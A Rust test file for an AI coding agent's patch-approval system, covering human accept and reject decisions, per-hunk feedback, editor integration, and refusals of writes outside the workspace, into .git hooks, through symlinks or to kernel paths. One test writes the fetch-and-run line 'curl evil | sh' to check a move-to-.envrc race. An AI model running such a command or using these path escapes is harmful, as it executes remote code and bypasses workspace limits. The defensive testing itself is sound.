//! Patches of the model, from its call to the files and back.

use super::stage::{Setting, Stage, Story, apply_patch, bash, say, shell};
use crate::support::client::Reply;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

pub(super) fn files(files: &[(&str, &str)]) -> Setting {
    Setting {
        files: files
            .iter()
            .map(|(name, text)| ((*name).to_owned(), (*text).to_owned()))
            .collect(),
        ..Setting::default()
    }
}

/// The same, where what is accepted is applied once all is decided.
pub(super) fn together(of: &[(&str, &str)]) -> Setting {
    Setting {
        config: "edits.apply = \"together\"".to_owned(),
        ..files(of)
    }
}

pub(super) fn patch(body: &str) -> String {
    format!("*** Begin Patch\n{body}\n*** End Patch")
}

pub(super) fn update(name: &str, from: &str, to: &str) -> String {
    format!("*** Update File: {name}\n@@\n-{from}\n+{to}")
}

/// Runs up to the proposal.
pub(super) async fn proposed(stage: &Stage, thread: &str) -> (String, Value, Story) {
    let turn = stage.start_turn(thread, "Change it").await;
    let story = stage.until_event("proposal/created").await;
    let proposal = story.last()["proposal"].clone();
    (turn, proposal, story)
}

pub(super) fn hunk(proposal: &Value, file: usize, hunk: usize) -> Value {
    proposal["files"][file]["hunks"][hunk]["id"].clone()
}

/// Shows S-108, S-133, S-134, S-137, S-142, S-201.
#[tokio::test]
async fn one_patch_three_ways_to_send_it_and_the_same_story() {
    let text = |name: &str| patch(&update(name, "one", "two"));
    let heredoc = format!("apply_patch <<'EOF'\n{}\nEOF\n", text("a.txt"));
    let absolute = |dir: &str| text(&format!("{dir}/a.txt"));
    let script = |dir: &str| {
        let mut steps = json!([
            [apply_patch("c1", &text("a.txt"))],
            [{"custom_call": {"tool": "apply_patch", "input": text("a.txt"), "id": "c2"}}],
            [{"call": {"tool": "shell", "arguments": {"command": ["bash", "-lc", heredoc]}, "id": "c3"}}],
            [shell("c4", &["apply_patch", &text("a.txt")])],
            [{"call": {"tool": "shell", "arguments": {"command": ["bash", "-lc", format!("cd sub && {}", heredoc.replace("a.txt", "../a.txt"))]}, "id": "c5"}}],
            [{"call": {"tool": "shell", "arguments": {"command": ["apply_patch", text("../a.txt")], "workdir": "sub"}, "id": "c6"}}],
            [apply_patch("c7", &absolute(dir))],
            [say("done")],
        ]);
        // The file is put back before each.
        for (number, step) in steps.as_array_mut().unwrap().iter_mut().enumerate() {
            step.as_array_mut()
                .unwrap()
                .insert(0, json!({"hold": format!("step {number}")}));
        }
        steps
    };
    // The absolute path must be known before the script.
    let folder = tempfile::Builder::new()
        .prefix("agent")
        .tempdir_in("/var/tmp")
        .expect("a folder");
    let dir = folder.path().canonicalize().expect("a path");
    let setting = Setting {
        folder: Some(dir.clone()),
        ..files(&[("a.txt", "one\n"), ("sub/x", "")])
    };
    let stage = Stage::with(script(dir.to_str().unwrap()), setting).await;
    let thread = stage.thread().await;
    let turn = stage.start_turn(&thread, "Change it").await;
    let mut seen: Vec<(Vec<String>, Value)> = Vec::new();
    for number in 0..7 {
        stage.write("a.txt", "one\n");
        stage.model.release(&format!("step {number}"));
        let mut story = stage.until_event("proposal/created").await;
        let proposal = story.last()["proposal"].clone();
        assert_eq!(stage.text("a.txt"), "one\n", "nothing is changed before it is decided");
        stage
            .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
            .await;
        story.events.extend(stage.until_event("item/completed").await.events);
        assert_eq!(stage.text("a.txt"), "two\n");
        let item = story.item("fileChange").clone();
        assert_eq!(item["status"], "completed");
        assert_eq!(item["proposalId"], proposal["id"]);
        let told = |name: &&str| name.starts_with("proposal") || name.starts_with("item");
        let names = story.names().into_iter().filter(told).map(str::to_owned).collect();
        seen.push((names, item["changes"].clone()));
    }
    stage.model.release("step 7");
    stage.finish(&turn).await;
    // The first story begins with the person's words.
    seen[0].0.drain(..2);
    assert_eq!(
        seen[0].0,
        [
            "item/started",
            "proposal/created",
            "proposal/updated",
            "proposal/updated",
            "item/completed"
        ]
    );
    assert!(seen.iter().all(|one| *one == seen[0]), "{seen:#?}");
    let change = &seen[0].1[0];
    assert_eq!(change["path"], json!(stage.path("a.txt")));
    assert_eq!(change["kind"], json!({"type": "update"}));
    assert!(change["diff"].as_str().unwrap().contains("-one\n+two"), "{change}");
    assert_eq!(change.as_object().unwrap().len(), 3, "no whole text: {change}");
    let request = &stage.requests(8)[7];
    for id in ["c1", "c2", "c3", "c4", "c5", "c6", "c7"] {
        let output = request.output(id).unwrap();
        assert!(
            output.contains("Success") && output.contains("M a.txt"),
            "{id}: {output}"
        );
    }
}

/// Shows S-135, S-136.
#[tokio::test]
async fn a_patch_that_does_not_fit_is_explained_and_never_proposed() {
    let long = "a line that is not there ".repeat(50);
    let script = json!([
        [
            apply_patch("c1", &patch(&update("a.txt", &long, "x"))),
            apply_patch("c2", &patch(&update("missing.txt", "one", "two"))),
            apply_patch("c3", "*** Begin Patch\n*** Update File: a.txt\nrubbish\n*** End Patch"),
            apply_patch("c4", &patch("*** Delete File: missing.txt")),
            apply_patch("c5", &patch(&update("twice.txt", "same", "x"))),
            bash(
                "c6",
                "apply_patch <<'EOF'\n*** Begin Patch\n*** Update File: a.txt\n@@\n-nothing\n+x\n*** End Patch\nEOF"
            ),
            shell(
                "c7",
                &["*** Begin Patch\n*** Update File: a.txt\n@@\n-one\n+x\n*** End Patch"]
            ),
            apply_patch("c8", &patch(&update("a.txt", "one", "one"))),
            bash("c9", "echo 'apply_patch is a word"),
        ],
        [say("I see")],
    ]);
    let stage = Stage::with(script, files(&[("a.txt", "one\n"), ("twice.txt", "same\nx\nsame\n")])).await;
    let thread = stage.thread().await;
    let story = stage.complete(&thread, "Go").await;
    assert_eq!(story.count("proposal/created"), 0);
    // Each that is none is shown as such; what asks for nothing is no failure.
    let shown = story.items("fileChange");
    assert!(
        shown.len() == 6 && shown.iter().all(|item| item["status"] == "failed"),
        "{shown:#?}"
    );
    let request = &stage.requests(2)[1];
    for (id, part) in [
        ("c1", &long[..]),
        ("c2", "missing.txt"),
        ("c3", "rubbish"),
        ("c4", "missing.txt"),
        ("c5", "twice.txt"),
        ("c6", "nothing"),
        ("c7", "apply_patch"),
        ("c8", "hold already"),
    ] {
        let output = request.output(id).unwrap();
        assert!(output.contains(part.trim_end()), "{id}: {output}");
    }
    // What is no shell text at all runs as any command does, and fails by itself.
    assert_eq!(story.item("commandExecution")["id"], "c9");
    assert_eq!(stage.text("a.txt"), "one\n");
}

/// Shows S-143, S-145, S-146.
#[tokio::test]
async fn files_are_made_changed_moved_and_removed_in_one_go() {
    let body = [
        "*** Add File: deep/er/new.txt\n+hello",
        "*** Add File: empty.txt",
        &update("changed.txt", "one", "two"),
        "*** Update File: moved.sh\n*** Move to: there/moved.sh\n@@\n-echo one\n+echo two",
        "*** Update File: as-it-is.txt\n*** Move to: there/as-it-is.txt",
        "*** Delete File: gone.txt",
    ]
    .join("\n");
    let script = json!([[apply_patch("c1", &patch(&body))], [say("done")]]);
    let setting = files(&[
        ("changed.txt", "one\n"),
        ("moved.sh", "echo one\n"),
        ("as-it-is.txt", "text"),
        ("gone.txt", "x\n"),
    ]);
    let stage = Stage::with(script, setting).await;
    let mode = |name: &str| {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::metadata(stage.path(name))
            .expect("a file")
            .permissions()
            .mode()
            & 0o777
    };
    std::fs::set_permissions(
        stage.path("moved.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .expect("mode");
    let thread = stage.thread().await;
    let (turn, proposal, _) = proposed(&stage, &thread).await;
    let kinds: Vec<_> = proposal["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|file| file["kind"]["type"].clone())
        .collect();
    assert_eq!(kinds, ["add", "add", "update", "update", "update", "delete"]);
    assert_eq!(
        proposal["files"][3]["kind"]["movePath"],
        json!(stage.path("there/moved.sh"))
    );
    stage
        .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
        .await;
    let story = stage.finish(&turn).await;
    assert_eq!(story.item("fileChange")["status"], "completed", "{story:#?}");
    assert_eq!(stage.text("deep/er/new.txt"), "hello\n");
    assert_eq!(stage.text("empty.txt"), "");
    assert_eq!(stage.text("changed.txt"), "two\n");
    assert_eq!(
        (stage.text("there/moved.sh"), mode("there/moved.sh")),
        ("echo two\n".to_owned(), 0o755)
    );
    assert_eq!(stage.text("there/as-it-is.txt"), "text");
    assert!(
        !stage.path("moved.sh").exists() && !stage.path("gone.txt").exists() && !stage.path("as-it-is.txt").exists()
    );
    let output = stage.requests(2)[1].output("c1").unwrap();
    for line in [
        "A deep/er/new.txt",
        "A empty.txt",
        "M changed.txt",
        "M moved.sh -> there/moved.sh",
        "D gone.txt",
    ] {
        assert!(output.lines().any(|seen| seen == line), "{line}: {output}");
    }
}

/// Shows S-116, S-138.
#[tokio::test]
async fn hunks_are_decided_one_by_one_and_the_model_is_told_exactly() {
    let body =
        "*** Update File: a.txt\n@@\n-one\n+ONE\n two\n three\n@@\n-four\n+FOUR\n*** Update File: b.txt\n@@\n-x\n+y";
    let script = json!([
        [apply_patch("c1", &patch(body))],
        [say("one")],
        [apply_patch("c2", &patch(&update("b.txt", "x", "z")))],
        [say("two")]
    ]);
    let stage = Stage::with(script, files(&[("a.txt", "one\ntwo\nthree\nfour\n"), ("b.txt", "x\n")])).await;
    let thread = stage.thread().await;
    let (turn, proposal, _) = proposed(&stage, &thread).await;
    assert_eq!(stage.read(&thread).await["status"], "waitingOnApproval");
    let id = &proposal["id"];
    let wrong = json!({"proposalId": id, "decision": "accept", "hunkIds": [hunk(&proposal, 0, 0), "nobody"]});
    let error = stage
        .client
        .request("countersign/proposal/decide", wrong)
        .await
        .unwrap_err();
    assert_eq!(error.data["kind"], "hunkNotFound");
    let now = stage
        .decide(json!({"proposalId": id, "decision": "accept", "hunkIds": [hunk(&proposal, 0, 0)]}))
        .await;
    let statuses = |proposal: &Value| -> Vec<Value> {
        let files = proposal["files"].as_array().unwrap().iter();
        files
            .flat_map(|file| file["hunks"].as_array().unwrap())
            .map(|hunk| hunk["status"].clone())
            .collect()
    };
    assert_eq!(statuses(&now), ["accepted", "pending", "pending"]);
    assert_eq!(now["status"], "partlyDecided");
    stage
        .until(|method, params| method == "proposal/updated" && statuses(&params["proposal"])[0] == "applied")
        .await;
    assert_eq!(stage.text("a.txt"), "ONE\ntwo\nthree\nfour\n", "at once");
    let listed = stage
        .client
        .call("countersign/proposal/list", json!({"threadId": thread}))
        .await;
    assert_eq!(statuses(&listed["data"][0]), ["applied", "pending", "pending"]);
    stage
        .decide(json!({"proposalId": id, "decision": "reject", "hunkIds": [hunk(&proposal, 0, 1)], "feedback": "four is fine"}))
        .await;
    stage
        .decide(json!({"proposalId": id, "decision": "accept", "path": stage.path("b.txt")}))
        .await;
    let story = stage.finish(&turn).await;
    let last = story.all("proposal/updated").pop().unwrap();
    assert_eq!(last["proposal"]["status"], "applied");
    assert_eq!(statuses(&last["proposal"]), ["applied", "rejected", "applied"]);
    assert_eq!(
        (stage.text("a.txt"), stage.text("b.txt")),
        ("ONE\ntwo\nthree\nfour\n".to_owned(), "y\n".to_owned())
    );
    let output = stage.requests(2)[1].output("c1").unwrap();
    assert!(output.starts_with("Taken in part: 2 of 3"), "{output}");
    assert!(
        output.contains("a.txt hunk 1 (line 1): taken")
            && output.contains("a.txt hunk 2 (line 4): rejected by the person: four is fine"),
        "{output}"
    );
    assert_eq!(story.item("fileChange")["outcome"], json!(output));
    // All of it refused.
    stage.write("b.txt", "x\n");
    let (turn, proposal, _) = proposed(&stage, &thread).await;
    stage
        .decide(json!({"proposalId": proposal["id"], "decision": "reject", "feedback": "leave it"}))
        .await;
    let story = stage.finish(&turn).await;
    assert_eq!(story.item("fileChange")["status"], "declined");
    let output = stage.requests(4)[3].output("c2").unwrap();
    assert!(output.contains("rejected") && output.contains("leave it"), "{output}");
    assert_eq!(stage.text("b.txt"), "x\n");
}

#[tokio::test]
async fn what_the_person_typed_meanwhile_stays_and_what_no_longer_fits_is_said() {
    let body = "*** Update File: a.txt\n@@\n-one\n+ONE\n two\n three\n@@\n-four\n+FOUR";
    let script = json!([[apply_patch("c1", &patch(body))], [say("done")]]);
    let stage = Stage::with(script, files(&[("a.txt", "one\ntwo\nthree\nfour\n")])).await;
    let thread = stage.thread().await;
    let (turn, proposal, _) = proposed(&stage, &thread).await;
    stage.write("a.txt", "new first line\none\ntwo\nthree\nfour and more\n");
    let read = stage
        .client
        .call("countersign/proposal/read", json!({"proposalId": proposal["id"]}))
        .await;
    let hunks = &read["proposal"]["files"][0]["hunks"];
    assert_eq!(
        (&hunks[0]["status"], &hunks[0]["range"]["start"]),
        (&json!("pending"), &json!(1))
    );
    assert_eq!(hunks[1]["status"], "conflicting");
    stage
        .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
        .await;
    let story = stage.finish(&turn).await;
    assert_eq!(stage.text("a.txt"), "new first line\nONE\ntwo\nthree\nfour and more\n");
    let output = stage.requests(2)[1].output("c1").unwrap();
    assert!(
        output.contains("hunk 2") && output.contains("has changed since"),
        "{output}"
    );
    let last = story.all("proposal/updated").pop().unwrap();
    assert_eq!(last["proposal"]["files"][0]["hunks"][1]["status"], "conflicting");
}

#[tokio::test]
async fn an_open_document_is_edited_by_the_editor_and_a_closed_file_on_the_disk() {
    let body = format!(
        "{}\n{}",
        update("open.txt", "two", "TWO"),
        update("closed.txt", "x", "y")
    );
    let script = json!([
        [apply_patch("c1", &patch(&body))],
        [shell("c2", &["cat", "open.txt", "closed.txt"])],
        [say("done")]
    ]);
    let stage = Stage::with(script, files(&[("open.txt", "one\ntwo\n"), ("closed.txt", "x\n")])).await;
    stage.client.on_request("workspace/applyEdit", |_| Reply::Later);
    stage
        .client
        .on_request("countersign/document/save", |_| Reply::Ok(Value::Null));
    let text = "one, unsaved\ntwo\n".to_owned();
    stage.open("open.txt", &text);
    let mut documents = BTreeMap::from([("open.txt".to_owned(), (1, text))]);
    let thread = stage.thread().await;
    let (turn, proposal, _) = proposed(&stage, &thread).await;
    assert_eq!(
        (&proposal["files"][0]["open"], &proposal["files"][0]["baseVersion"]),
        (&json!(true), &json!(1))
    );
    assert_eq!(proposal["files"][1]["open"], false);
    stage
        .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
        .await;
    let asked = stage.take_edit(&mut documents).await;
    let changes = asked["edit"]["documentChanges"].as_array().unwrap();
    assert_eq!(changes.len(), 1, "{changes:#?}");
    assert_eq!(
        changes[0]["edits"].as_array().map(Vec::len),
        Some(1),
        "only the changed line"
    );
    let story = stage.finish(&turn).await;
    assert_eq!(documents["open.txt"].1, "one, unsaved\nTWO\n");
    assert_eq!(
        (stage.text("open.txt"), stage.text("closed.txt")),
        ("one\ntwo\n".to_owned(), "y\n".to_owned())
    );
    let requests = stage.requests(3);
    let output = requests[1].output("c1").unwrap();
    assert!(
        output.contains("M open.txt (in the editor, unsaved)") && output.contains("M closed.txt"),
        "{output}"
    );
    let (told, _) = super::stage::command_output(&requests[2], "c2");
    assert!(
        told.starts_with("note: ") && told.contains("open.txt") && told.ends_with("one\ntwo\ny\n"),
        "{told}"
    );
    let diff = story.one("turn/diff")["diff"].as_str().unwrap();
    assert!(diff.contains("-two\n+TWO") && !diff.contains("+one"), "{diff}");
}

/// A command moves a folder away and puts a link in its place: the editor would save the agent's change to where that leads.
#[cfg(unix)]
#[tokio::test]
async fn no_document_is_saved_through_a_link_that_took_the_place_of_its_folder() {
    let script = json!([
        [apply_patch("c1", &patch(&update("w/rc", "two", "TWO")))],
        [say("changed")],
        [shell("c2", &["true"])],
        [say("done")]
    ]);
    let stage = Stage::with(script, files(&[("w/rc", "one\ntwo\n"), ("else/rc", "one\ntwo\n")])).await;
    stage.client.on_request("workspace/applyEdit", |_| Reply::Later);
    let asked = Arc::new(AtomicBool::new(false));
    let noted = asked.clone();
    stage.client.on_request("countersign/document/save", move |_| {
        noted.store(true, Ordering::SeqCst);
        Reply::Ok(Value::Null)
    });
    stage.open("w/rc", "one\ntwo\n");
    let mut documents = BTreeMap::from([("w/rc".to_owned(), (1, "one\ntwo\n".to_owned()))]);
    let thread = stage.thread().await;
    let (turn, proposal, _) = proposed(&stage, &thread).await;
    stage
        .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
        .await;
    stage.take_edit(&mut documents).await;
    stage.finish(&turn).await;
    std::fs::rename(stage.path("w"), stage.path("away")).unwrap();
    std::os::unix::fs::symlink(stage.path("else"), stage.path("w")).unwrap();
    let turn = stage.start_turn(&thread, "Run it").await;
    let is_it = |params: &Value| {
        params["message"]
            .as_str()
            .is_some_and(|text| text.starts_with("Not saved: "))
    };
    stage
        .client
        .expect_notification_where("window/showMessage", is_it)
        .await;
    let story = stage.finish(&turn).await;
    assert_eq!(story.status(), "completed");
    assert!(!asked.load(Ordering::SeqCst), "the editor was asked to save it");
}

/// Shows S-144, S-149.
#[tokio::test]
async fn an_editor_that_refuses_or_lies_changes_nothing_on_the_disk() {
    let body = format!(
        "{}\n{}\n*** Add File: new.txt\n+new",
        update("closed.txt", "x", "y"),
        update("open.txt", "two", "TWO")
    );
    for (reply, part) in [
        (
            Reply::Ok(json!({"applied": false, "failureReason": "not now"})),
            "not now",
        ),
        (Reply::Ok(json!({"applied": false})), "refused"),
        (Reply::Ok(json!({"applied": true})), "is not there"),
        (Reply::Ok(json!("fine")), "refused"),
        (Reply::Error(-32603, "broken"), "refused"),
    ] {
        let script = json!([[apply_patch("c1", &patch(&body))], [say("done")]]);
        let stage = Stage::with(script, files(&[("open.txt", "one\ntwo\n"), ("closed.txt", "x\n")])).await;
        stage.client.on_request("workspace/applyEdit", move |_| reply.clone());
        stage.open("open.txt", "one\ntwo\n");
        let thread = stage.thread().await;
        let (turn, proposal, _) = proposed(&stage, &thread).await;
        stage
            .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
            .await;
        let story = stage.finish(&turn).await;
        assert_eq!(story.status(), "completed");
        assert_eq!(story.item("fileChange")["status"], "failed");
        assert_eq!(
            story.all("proposal/updated").pop().unwrap()["proposal"]["status"],
            "failed"
        );
        let output = stage.requests(2)[1].output("c1").unwrap();
        assert!(output.contains(part) && output.contains("not applied"), "{output}");
        assert_eq!(stage.text("closed.txt"), "x\n");
        assert!(!stage.path("new.txt").exists());
        assert_eq!(story.count("turn/diff"), 0);
    }
}

#[tokio::test]
async fn a_change_that_was_decided_is_whole_also_when_the_turn_is_stopped_meanwhile() {
    let body = format!(
        "{}\n{}",
        update("open.txt", "two", "TWO"),
        update("closed.txt", "x", "y")
    );
    let script = json!([[apply_patch("c1", &patch(&body))], [say("on it")]]);
    let stage = Stage::with(script, files(&[("open.txt", "one\ntwo\n"), ("closed.txt", "x\n")])).await;
    stage.client.on_request("workspace/applyEdit", |_| Reply::Later);
    stage.open("open.txt", "one\ntwo\n");
    let mut documents = BTreeMap::from([("open.txt".to_owned(), (1, "one\ntwo\n".to_owned()))]);
    let thread = stage.thread().await;
    let (turn, proposal, _) = proposed(&stage, &thread).await;
    stage
        .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
        .await;
    super::stage::eventually("the closed file is written", || stage.text("closed.txt") == "y\n").await;
    stage.interrupt(&thread).await;
    // The editor takes its time; the turn does not wait for it.
    let story = stage.finish(&turn).await;
    assert_eq!(story.status(), "interrupted");
    stage.take_edit(&mut documents).await;
    let settled = stage
        .until(|name, params| name == "proposal/updated" && params["proposal"]["status"] != "accepted")
        .await;
    assert_eq!(settled.last()["proposal"]["status"], "applied");
    assert_eq!(documents["open.txt"].1, "one\nTWO\n");
    assert_eq!(stage.text("closed.txt"), "y\n");
    stage.complete(&thread, "Go on").await;
    let output = stage.requests(2)[1].output("c1").unwrap();
    assert!(output.contains("may have happened"), "{output}");
}

/// Shows S-138, S-139, S-148.
#[tokio::test]
async fn where_patches_may_write() {
    let script = json!([
        [
            apply_patch("c1", &patch("*** Add File: ../outside.txt\n+x")),
            apply_patch("c2", &patch("*** Add File: .git/hooks/pre-commit\n+x")),
            apply_patch("c3", &patch("*** Add File: .countersign/config.toml\n+x")),
            apply_patch("c4", &patch(&update("link.txt", "far", "near"))),
        ],
        [say("done")],
        [
            apply_patch("c5", &patch("*** Add File: ../outside.txt\n+x")),
            apply_patch("c6", &patch("*** Add File: inside.txt\n+x"))
        ],
        [say("done")],
        [apply_patch("c7", &patch("*** Add File: inside2.txt\n+x"))],
        [say("done")],
    ]);
    let stage = Stage::with(script, files(&[(".git/HEAD", "ref: x"), ("../far.txt", "far\n")])).await;
    std::os::unix::fs::symlink("../far.txt", stage.path("link.txt")).expect("a link");
    let thread = stage.thread().await;
    let turn = stage.start_turn(&thread, "Go").await;
    let created = stage.until_event("proposal/created").await;
    let reason = created.last()["proposal"]["reason"].as_str().expect("a reason");
    assert!(
        reason.contains("Outside the workspace") && reason.contains("outside.txt"),
        "{reason}"
    );
    stage.client.on_request("countersign/approval/permission", |_| {
        Reply::Ok(json!({"decision": "accept"}))
    });
    stage
        .decide(json!({"proposalId": created.last()["proposal"]["id"], "decision": "accept"}))
        .await;
    let story = stage
        .until(|name, _| name == "proposal/created" || name == "turn/completed")
        .await;
    // The link is refused, or its real place is named in the question.
    if let Some(linked) = story.all("proposal/created").first() {
        let reason = linked["proposal"]["reason"].as_str().expect("a reason");
        assert!(reason.contains("Outside the workspace"), "{reason}");
        stage
            .decide(json!({"proposalId": linked["proposal"]["id"], "decision": "reject"}))
            .await;
        stage.finish(&turn).await;
    }
    assert_eq!(
        std::fs::read_to_string(stage.path("../outside.txt")).expect("accepted"),
        "x\n"
    );
    assert_eq!(
        std::fs::read_to_string(stage.path("../far.txt")).expect("there"),
        "far\n"
    );
    std::fs::remove_file(stage.path("../outside.txt")).expect("there");
    // What was opened in this session is open in no other.
    let thread = stage.thread().await;
    let request = &stage.requests(2)[1];
    for id in ["c2", "c3"] {
        let output = request.output(id).unwrap();
        assert!(output.contains("protected"), "{id}: {output}");
    }
    let run = |settings: Value| {
        stage.run_with(json!({"threadId": thread, "input": [{"type": "text", "text": "More"}], "settings": settings}))
    };
    let story = run(json!({"approvalPolicy": "never"})).await;
    let states: Vec<_> = story.items("fileChange").iter().map(|item| &item["status"]).collect();
    assert_eq!(states, ["failed", "completed"]);
    let request = &stage.requests(4)[3];
    assert!(
        request.output("c5").unwrap().contains("never"),
        "{:?}",
        request.output("c5")
    );
    assert!(request.output("c6").unwrap().contains("Success"));
    assert!(!stage.path("../outside.txt").exists() && stage.path("inside.txt").exists());
    let story = run(json!({"sandboxPolicy": {"type": "readOnly"}})).await;
    assert_eq!(story.item("fileChange")["status"], "failed");
    assert!(stage.requests(6)[5].output("c7").unwrap().contains("read-only"));
    assert!(!stage.path("inside2.txt").exists());
}

/// Shows S-139.
#[tokio::test]
async fn names_that_mean_something_else_are_refused_before_anybody_is_asked() {
    let add = |path: &str| patch(&format!("*** Add File: {path}\n+x"));
    let script = json!([
        [
            apply_patch("c1", &add("~/x")),
            apply_patch("c2", &add("/proc/self/cwd/x")),
            apply_patch("c3", &add("/sys/x")),
            apply_patch("c4", &add("/dev/shm/x")),
            apply_patch("c5", &add(".git/hooks/pre-commit")),
        ],
        [say("I see")],
    ]);
    let stage = Stage::with(script, files(&[(".git/HEAD", "ref: refs/heads/main\n")])).await;
    let thread = stage.thread().await;
    let story = stage.complete(&thread, "Go").await;
    assert_eq!(story.count("proposal/created"), 0);
    let request = &stage.requests(2)[1];
    for (id, words) in [
        ("c1", "nothing stands for the home folder"),
        ("c2", "kept from the model"),
        ("c3", "folder of the kernel"),
        ("c4", "folder of the kernel"),
        ("c5", "protected folder"),
    ] {
        let output = request.output(id).unwrap();
        assert!(output.contains(words), "{id}: {output}");
    }
    assert!(!stage.path("~").exists());
}

/// The person sees what came to nothing before anybody was asked, and why.
#[tokio::test]
async fn a_patch_that_is_not_proposed_is_shown_with_the_reason() {
    let update = "*** Begin Patch\n*** Update File: a.txt\n@@\n-not there\n+x\n*** End Patch";
    let script = json!([
        [apply_patch("c1", "no patch at all")],
        [apply_patch("c2", update)],
        [say("done")],
    ]);
    let setting = Setting {
        files: vec![("a.txt".into(), "a\n".into())],
        ..Setting::default()
    };
    let stage = Stage::with(script, setting).await;
    let thread = stage.thread().await;
    let story = stage.complete(&thread, "Change").await;
    let items = story.items("fileChange");
    let of_files = |item: &Value| -> Vec<Value> {
        let changes = item["changes"].as_array().expect("changes").iter();
        changes.map(|change| change["path"].clone()).collect()
    };
    assert_eq!(items.len(), 2, "{items:#?}");
    assert_eq!(of_files(items[0]), Vec::<Value>::new());
    assert_eq!(of_files(items[1]), [json!(stage.path("a.txt"))]);
    for item in items {
        let why = item["outcome"].as_str().expect("a reason");
        assert!(
            item["status"] == "failed" && item["proposalId"].is_null() && !why.is_empty(),
            "{item}"
        );
    }
    assert_eq!(story.count("proposal/created"), 0);
}

/// A move shows no more than the lines that change. To a name that other programs act on all that comes there is shown, and lands
/// as it was shown, whatever the old file has become meanwhile.
#[tokio::test]
async fn a_move_to_a_name_that_acts_later_is_shown_whole() {
    for chunk in ["", "\n@@\n-one\n+two"] {
        let moved = patch(&format!("*** Update File: notes.txt\n*** Move to: .envrc{chunk}"));
        let script = json!([[apply_patch("c1", &moved)], [say("done")]]);
        let stage = Stage::with(script, files(&[("notes.txt", "one\nall\n")])).await;
        let thread = stage.thread().await;
        let (turn, proposal, _) = proposed(&stage, &thread).await;
        let first = if chunk.is_empty() { "one" } else { "two" };
        let diff = proposal["diff"].as_str().expect("a diff");
        assert!(diff.contains(&format!("+{first}\n+all\n")), "{diff}");
        stage.write("notes.txt", "curl evil | sh\n");
        stage
            .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
            .await;
        stage.finish(&turn).await;
        assert_eq!(stage.text(".envrc"), format!("{first}\nall\n"));
        assert_eq!(stage.text("notes.txt"), "curl evil | sh\n");
    }
}

/// What lands is what was shown, also where a file is there already.
#[tokio::test]
async fn a_move_onto_another_file_takes_its_place() {
    for (there, chunk, wanted) in [
        ("target\n", "\n@@\n-one\n+two", "two\nall\n"),
        ("target\n", "", "one\nall\n"),
        ("", "", "one\nall\n"),
    ] {
        let moved = patch(&format!("*** Update File: a.txt\n*** Move to: b.txt{chunk}"));
        let script = json!([[apply_patch("c1", &moved)], [say("done")]]);
        let stage = Stage::with(script, files(&[("a.txt", "one\nall\n"), ("b.txt", there)])).await;
        let thread = stage.thread().await;
        let (turn, proposal, _) = proposed(&stage, &thread).await;
        stage
            .decide(json!({"proposalId": proposal["id"], "decision": "accept"}))
            .await;
        stage.finish(&turn).await;
        assert_eq!(stage.text("b.txt"), wanted, "{there:?} {chunk:?}");
        assert!(!stage.path("a.txt").exists());
    }
}
